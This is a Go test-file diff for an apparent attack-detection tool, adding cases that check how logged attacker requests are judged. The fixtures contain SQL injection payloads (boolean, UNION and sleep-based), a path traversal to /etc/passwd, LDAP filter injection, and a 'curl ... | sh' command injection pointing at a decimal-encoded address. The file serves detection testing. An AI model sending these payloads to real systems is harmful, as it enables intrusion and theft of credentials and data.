@@ -174,6 +174,15 @@ func TestOutcomeOfManyRecords(t *testing.T) {
 			}
 			l.add(attacker, "GET", path("/list?page", "1' and ord(mid((select password from users limit 1),1,1))>64 and 'a'='a"), page, 0, nil)
 		}, "success", "true and false conditions differ"},
+		"true and false, and a statement that can't run": {func(l *logOf) {
+			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512", "1' and (select nowhere(1)) is null"} {
+				answer := page
+				if strings.Contains(p, "9924") || strings.Contains(p, "nowhere") {
+					answer = "<html>none</html>"
+				}
+				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, nil)
+			}
+		}, "unknown", ""},
 		"true and false, blocked": {func(l *logOf) {
 			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512", "1' and 5=9"} {
 				answer, status := page, "200"
@@ -225,6 +234,10 @@ func TestOutcomeOfManyRecords(t *testing.T) {
 				l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"})
 			}
 		}, "success", "10.2.0.9 asked evil.example.net, 1s after"},
+		"asked where a path out of the place begins": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "https://pay.example.net/../../../../etc/passwd"), page, 0, nil)
+			l.add("10.2.0.9", "GET", "/etc/passwd", "none", 0, map[string]string{"DOMAIN": "pay.example.net", "DST_IP": "198.51.100.7"})
+		}, "unknown", ""},
 		"called back, an address in one number": {func(l *logOf) {
 			l.add(attacker, "GET", path("/list?page", "1;curl http://3325256711/x | sh"), page, 0, nil)
 			l.add("10.2.0.9", "GET", "/x", "class", 0, map[string]string{"DOMAIN": "", "DST_IP": "198.51.100.7"})
@@ -234,6 +247,30 @@ func TestOutcomeOfManyRecords(t *testing.T) {
 			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
 			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<table><tr><td>x</td></tr></table>", 0, nil)
 		}, "success", "broke the statement"},
+		"broken by another quote": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", `a" UNION SELECT name FROM accounts-- `), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
+		}, "unknown", ""},
+		"broken by one quote of two": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", `a' UNION SELECT "name" FROM accounts-- `), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
+		}, "unknown", ""},
+		"broken, and a text without a quote": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
+			l.add(attacker, "GET", path("/list?page", "a AND 1=1 UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
+		}, "unknown", ""},
+		"broken, and a number without a quote": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "1' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
+			l.add(attacker, "GET", path("/list?page", "1 UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
+		}, "unknown", ""},
+		"broken and completed, a number": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "1 UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
+			l.add(attacker, "GET", path("/list?page", "-1 UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
+		}, "success", "broke the statement"},
+		"broken in another parameter": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?name", "a' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
+		}, "unknown", ""},
 		"all that there is": {func(l *logOf) {
 			l.add(attacker, "GET", path("/list?page", "x)(uid=nobody))(|(uid=nobody"), "[]", 0, nil)
 			l.add(attacker, "GET", path("/list?page", "*)(uid=*))(|(uid=*"), `[{"name":"ann","mail":"ann@example.com"}]`, 0, nil)
@@ -297,6 +334,23 @@ func TestOutcomeOfManyRecords(t *testing.T) {
 				t.Errorf("the severity is %v", last["severity"])
 			}
 		})
+	}
+}
+
+// So do those of conditions for which the server has not waited, once it has waited for another one.
+func TestDidNotWaitBefore(t *testing.T) {
+	l := newLog(t)
+	for n, took := range []time.Duration{20 * time.Millisecond, 20 * time.Millisecond, 5031 * time.Millisecond} {
+		l.add("10.9.9.9", "GET", "/list?page="+url.QueryEscape(fmt.Sprintf("1' and if(ord(mid(user(),1,1))>%d,sleep(5),0)-- ", 96-32*n)), "<h1>Products</h1>", took, nil)
+	}
+	l.add("10.9.9.9", "GET", "/list?page="+url.QueryEscape("1) rlike (if(1=1,sleep(5),0)-- "), "<h1>Products</h1>", 20*time.Millisecond, nil)
+	alerts := l.judged(remembering(t, "mask=off"))
+	var got []any
+	for _, a := range alerts {
+		got = append(got, a["outcome"])
+	}
+	if want := []any{"success", "success", "success", "unknown"}; !slices.Equal(got, want) {
+		t.Errorf("outcomes are %v, want %v", got, want)
 	}
 }
 
